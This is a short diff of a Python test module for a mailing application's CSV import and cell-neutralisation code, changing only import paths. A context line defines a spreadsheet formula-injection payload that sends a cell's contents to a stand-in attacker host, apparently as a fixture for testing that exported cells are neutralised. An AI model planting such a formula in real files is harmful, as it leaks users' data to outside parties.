@@ -10,8 +10,9 @@ import pytest
 from sqlalchemy import delete, select
 
 from mailer.csv_cells import neutralise, restore
-from mailer.models import Consent, Event, Subscriber, Subscription
+from mailer.events import Event
 from mailer.subscribers.csv_files import import_csv
+from mailer.subscribers.models import Consent, Subscriber, Subscription
 from tests.harness.admin import log_in, make_editors
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Klikk her")'
